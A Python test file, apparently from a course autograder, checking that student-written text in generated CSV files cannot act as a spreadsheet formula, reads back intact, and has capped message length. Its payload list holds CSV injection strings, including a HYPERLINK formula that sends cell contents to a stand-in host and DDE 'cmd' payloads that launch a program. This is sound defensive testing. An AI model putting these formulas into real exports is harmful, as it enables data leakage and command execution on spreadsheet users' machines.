"""The CSV files TAs open in spreadsheets: no cell a student wrote is a formula, the kit reads back what was meant,
and a results.csv of any age and size is read; every message is capped, whichever way it comes.

Files are written here by report.py from hand-made rows, and read back as a spreadsheet would read them
(`spreadsheet_cells`) and as the kit does (report.read_results). No grading run.
"""

from __future__ import annotations

import csv

from hypothesis import given, settings
from hypothesis import strategies as st

from autograder.grading.csv_cells import FORMULA_STARTS, inert, original
from autograder.grading.intake import Submission
from autograder.grading.messages import MESSAGE_CHARS
from autograder.grading.report import Timing, read_results, write_csvs, write_tampered, write_timings
from autograder.grading.results import CellResult, with_seed
from tests.conftest import spreadsheet_cells

PAYLOADS = ['=HYPERLINK("http://example.invalid/?x="&A1,"see your grade")', "@SUM(1+1)", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1", "=1+1\n=2+2", "plain text, no formula"]


def hostile_rows() -> list[CellResult]:
    """A row per payload in each student-controlled column: the message, the student id, the test's name."""
    rows = [CellResult("alice", "01_tensors", f"test_{i}", 0.0, 1.0, "tampered", p) for i, p in enumerate(PAYLOADS)]
    rows += [CellResult(payload, "01_tensors", "test_a", 0.0, 1.0, "error", "not a usable student id")
             for payload in PAYLOADS]
    rows += [CellResult("bob", payload, payload, 0.0, 0.0, "error", "not an assignment") for payload in PAYLOADS]
    return rows


@given(st.text())
@settings(max_examples=300, derandomize=True)
def test_a_cell_is_never_a_formula_and_reads_back_as_written(text):
    assert not inert(text).startswith(FORMULA_STARTS)
    assert original(inert(text)) == text


def test_no_cell_a_student_wrote_is_a_formula_in_any_csv(tmp_path):
    rows = hostile_rows()
    write_csvs(tmp_path, rows)
    write_tampered(tmp_path, rows)
    write_timings(tmp_path, [Timing(payload, payload, 1.0, 0.5) for payload in PAYLOADS])
    for name in ("results.csv", "grades.csv", "tampered.csv", "timings.csv"):
        cells = spreadsheet_cells(tmp_path / name)
        assert len(cells) > len(PAYLOADS) and not any("formula" in row for row in cells), name


def test_the_kit_reads_back_the_original_text(tmp_path):
    rows = hostile_rows()
    write_csvs(tmp_path, rows)
    assert read_results(tmp_path) == sorted(rows, key=lambda r: (r.student_id, r.assignment))


def test_a_results_csv_with_an_enormous_message_written_before_messages_were_capped_is_read(tmp_path):
    with open(tmp_path / "results.csv", "w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(CellResult.columns())
        writer.writerow(["alice", "01_tensors", "test_a", "", "0", "1", "failed", "x" * 300_000])
    [row] = read_results(tmp_path)
    assert len(row.message) <= MESSAGE_CHARS and row.message.endswith("more characters)")


def test_every_message_is_capped_and_printable_whichever_way_it_comes():
    huge = "\x1b[2J" + "y" * 50_000_000
    row = CellResult("alice", "01_tensors", "test_a", 0.0, 1.0, "failed", huge)
    assert len(row.message) == MESSAGE_CHARS and row.message.startswith("\\x1b[2Jyyy")
    assert row.message.endswith(" more characters)")
    seeded = with_seed(row, {"test_a": 42})
    assert len(seeded.message) <= MESSAGE_CHARS and seeded.message.endswith("[inputs: dlkit.seed_everything(42)]")
    problem = Submission("alice", "01_tensors", None, "01_tensors.ipynb is not valid JSON: " + huge).problem
    assert len(problem) <= MESSAGE_CHARS and "\x1b" not in problem
